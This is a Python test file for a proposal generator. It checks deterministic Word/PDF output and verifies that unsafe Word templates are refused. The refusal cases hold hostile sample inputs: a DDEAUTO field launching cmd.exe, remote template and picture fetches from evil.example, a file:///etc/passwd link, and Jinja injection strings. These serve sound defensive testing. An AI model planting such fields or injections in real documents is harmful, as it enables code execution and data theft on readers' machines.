"""Word and PDF of a proposal: the same bytes each time, the same figures in each, nothing of a template left; unfit templates refused."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace

import pypdfium2
import pytest
from docx import Document as Word
from tools.make_proposal_template import make

from remit.domains.proposals import inspection, word
from remit.domains.proposals.files import as_text, written
from remit.domains.proposals.inspection import TemplateUnfit
from remit.domains.proposals.model import Document, Line, Said, Section, Source, of_plain
from remit.domains.proposals.presenting import Status

OFFER = Status("approved", "Bob", "2026-11-02")
SAID = (
    Said("## What we propose", "wording", ""), Said("We propose <Northlake> & {{ total }} for Pine.", "plain", ""), Said("### What it does", "wording", ""),
    Said("- It *splits* a block.", "fact", "", ("1" * 32,)), Said("1. First.", "wording", ""), Said("2. Second.", "wording", ""),
)  # fmt: skip
DOCUMENT = Document(
    number=7, revision=2, day="2026-11-02", expires_on="2026-12-31", title="OMS for Pine <Capital>", firm="Northlake Systems", account="Pine Capital",
    reader="Elena Voss", reader_title="Chief Operating Officer", seller="Alice", seller_title="Account Executive", seller_email="alice@northlake.example",
    currency="USD", generation=3, prices_since="2026-03-03", term_months=24, payment="yearly in advance", discount_bp=750,
    lines=(Line("p", "Northlake OMS", "user and year", "1250.5", 1_440_000, 1_800_720_000, 1_665_666_000, True), Line("q", "Onboarding", "each", "1", 2_500_050, 2_500_050, 2_312_546, False)),
    list_year_minor=1_800_720_000, year_minor=1_665_666_000, once_minor=2_312_546, list_term_minor=3_603_940_050, term_minor=3_333_644_546,
    sections=(Section("a", "What we propose", "v", SAID),), left_out=(("Rollout", "no date"),), sources=(Source("1" * 32, "Product sheet", "p. 2", "2026-09-01"),),
)  # fmt: skip


def pdf_text(content: bytes) -> str:
    return "\n".join(page.get_textpage().get_text_range() for page in pypdfium2.PdfDocument(content))


def docx_text(content: bytes) -> str:
    made = Word(io.BytesIO(content))
    cells = [cell.text for table in made.tables for row in table.rows for cell in row.cells]
    foot = [one.text for one in made.sections[0].footer.paragraphs]
    return "\n".join([*(one.text for one in made.paragraphs), *cells, *foot])


@pytest.mark.parametrize("format", ["pdf", "docx"])
def test_same_input_same_bytes_and_the_same_figures(format) -> None:
    first = written(DOCUMENT, OFFER, format)
    assert first.content == written(of_plain(DOCUMENT.plain()), OFFER, format).content
    assert first.name == f"P-00007-r2.{format}"
    text = (pdf_text if format == "pdf" else docx_text)(first.content)
    text = re.sub(r"\s+", " ", text)
    for told in (
        "OMS for Pine <Capital>", "1,250.5", "USD 14,400", "USD 16,656,660", "USD 23,125.46", "USD 33,336,445.46", "7.5 %", "31 December 2026", "24 months",
        "We propose <Northlake> & {{ total }} for Pine.", "It *splits* a block.", "Product sheet, p. 2", "1 September 2026",
    ):  # fmt: skip
        assert told in text, told
    assert "not an offer" not in text and "endfor" not in text and "{%" not in text
    draft = written(DOCUMENT, Status("draft"), format)
    assert "Draft: not an offer" in re.sub(
        r"\s+", " ", (pdf_text if format == "pdf" else docx_text)(draft.content)
    )
    other = written(replace(DOCUMENT, discount_bp=800), OFFER, format)
    assert other.content != first.content


def test_the_template_that_ships_is_what_its_maker_makes_and_fit() -> None:
    shipped = word.SHIPPED.read_bytes()
    assert make() == shipped
    inspection.check(shipped)
    assert "Total over the term: USD 33,336,445.46" in as_text(DOCUMENT)


def changed(part: str, content: bytes | None = None, **replaced: str) -> bytes:
    """The shipped template with a part added, or with words of it replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word.SHIPPED.read_bytes())) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            if name == part:
                for before, after in replaced.items():
                    assert before.encode() in data, before
                    data = data.replace(before.encode(), after.encode())
                data = content or data
            new.writestr(name, data)
        if content is not None and part not in old.namelist():
            new.writestr(part, content)
    return out.getvalue()


TAG = "{{ title }}"
BODY = "<w:body>"


def field(*codes: str) -> str:
    """A body that begins with a field, its code cut into runs as Word cuts them."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"{BODY}<w:p>{mark.format('begin')}{runs}{mark.format('separate')}<w:r><w:t>1</w:t></w:r>{mark.format('end')}</w:p>"


def rel(kind: str, target: str) -> bytes:
    return EXTERNAL.format(kind, target).replace(' TargetMode="External"', "").encode()


EXTERNAL = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://x/{}" Target="{}" TargetMode="External"/></Relationships>'


@pytest.mark.parametrize(
    ("made", "why"),
    [
        (lambda: b"no zip", "no Word file"),
        (lambda: changed("word/vbaProject.bin", b"x"), "macro"),
        (lambda: changed("word/embeddings/oleObject1.bin", b"x"), "embedded"),
        (lambda: changed("word/x.xml", b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"), "entities"),
        (lambda: changed("word/_rels/y.xml.rels", EXTERNAL.format("attachedTemplate", "https://evil.example/t.dotm").encode()), "outside of the file"),
        (lambda: changed("word/_rels/y.xml.rels", EXTERNAL.format("image", "file:///etc/passwd").encode()), "outside of the file"),
        (lambda: changed("word/_rels/y.xml.rels", EXTERNAL.format("hyperlink", "javascript:1").encode()), "outside of the file"),
        (lambda: changed("word/document.xml", None, **{TAG: "{{ title.__class__ }}"}), "no value of a proposal"),
        (lambda: changed("word/document.xml", None, **{TAG: "{{ range(9) }}"}), "may not use call"),
        (lambda: changed("word/document.xml", None, **{TAG: "{{ title * 9 }}"}), "may not use mul"),
        (lambda: changed("word/document.xml", None, **{TAG: "{{ secret }}"}), "names secret"),
        (lambda: changed("word/document.xml", None, **{TAG: "{% import 'x' as y %}"}), "may not use import"),
        (lambda: changed("word/document.xml", None, **{TAG: "{{ title | safe }}"}), "may not use filter"),
        (lambda: changed("word/document.xml", None, **{TAG: "{% if title %}"}), "cannot be read"),
        (lambda: b"PK" + b"0" * 1_000_001, "more than"),
        (lambda: changed("word/document.xml", None, **{BODY: field('DDEAUTO cmd.exe "/k calc.exe"')}), "holds the field 'DDEAUTO"),
        (lambda: changed("word/document.xml", None, **{BODY: field("INCLUDE", 'PICTURE "https://evil.example/p.png"')}), "holds the field 'INCLUDEPICTURE"),
        (lambda: changed("word/document.xml", None, **{BODY: BODY + '<w:p><w:fldSimple w:instr=" INCLUDETEXT x "/></w:p>'}), "holds the field 'INCLUDETEXT"),
        (lambda: changed("word/document.xml", None, **{BODY: field("PAGE {{ title }}")}), "holds the field"),
        (lambda: changed("word/document.xml", None, **{BODY: BODY + '<w:altChunk xmlns:r="http://r" r:id="x"/>'}), "holds altChunk"),
        (lambda: changed("word/_rels/y.xml.rels", rel("oleObject", "media/image9.bin")), "as oleObject"),
        (lambda: changed("word/_rels/y.xml.rels", rel("aFChunk", "media/extra.html")), "as aFChunk"),
        (lambda: changed("docProps/app.xml", b"<p>{<b>{ title.upper() }}</b></p>"), "A tag stands in docProps"),
        (lambda: changed("word/footnotes.xml", b"<p>{% for a in title %}</p>"), "A tag stands in word/footnotes"),
        (lambda: changed("word/document.xml", None, **{TAG: "{% for a in 'xxxx' %}x{% endfor %}"}), "a loop goes over a list"),
        (lambda: changed("word/document.xml", None, **{TAG: "{% for a in sections %}{% for b in a.said %}" + "x" * 9000 + "{% endfor %}{% endfor %}"}), "too large"),
    ],
)  # fmt: skip
def test_a_template_that_could_do_more_than_print_is_refused(made, why: str) -> None:
    with pytest.raises(TemplateUnfit, match=why):
        inspection.check(made())


def plain(*lines: str) -> bytes:
    """A Word file of these lines and nothing else."""
    made, out = Word(), io.BytesIO()
    for line in lines:
        made.add_paragraph(line)
    made.save(out)
    return out.getvalue()


def test_a_file_that_is_no_offer_says_so_whatever_the_template_prints() -> None:
    attack = plain(
        "Offer {{ reference }} for {{ account }}: {{ total }}. {{ approved }}", "We guarantee the best price."
    )
    with pytest.raises(TemplateUnfit, match="does not print mark, expires, totals, conditions"):
        inspection.check(attack)
    rest = "{% for a in totals %}{{ a.value }}{% endfor %}{% for a in conditions %}{{ a }}{% endfor %}{% if mark %}{{ mark }}{% endif %}"
    inspection.check(plain("{{ expires }}", rest))
    with pytest.raises(TemplateUnfit, match="does not print expires"):
        inspection.check(plain("{% if approved %}{{ expires }}{% endif %}", rest))
    # one that was taken in before, or hides the mark in white: the head of each page says it all the same
    made = Word(io.BytesIO(written(DOCUMENT, Status("draft"), "docx", attack).content))
    assert [one.header.paragraphs[0].text for one in made.sections] == ["Draft: not an offer"]
    assert "not an offer" not in docx_text(written(DOCUMENT, OFFER, "docx", attack).content)


def test_a_template_of_the_firms_own_is_used() -> None:
    own = changed("word/document.xml", None, **{TAG: "Our own: {{ title }}"})
    inspection.check(own)
    assert "Our own: OMS for Pine <Capital>" in docx_text(written(DOCUMENT, OFFER, "docx", own).content)
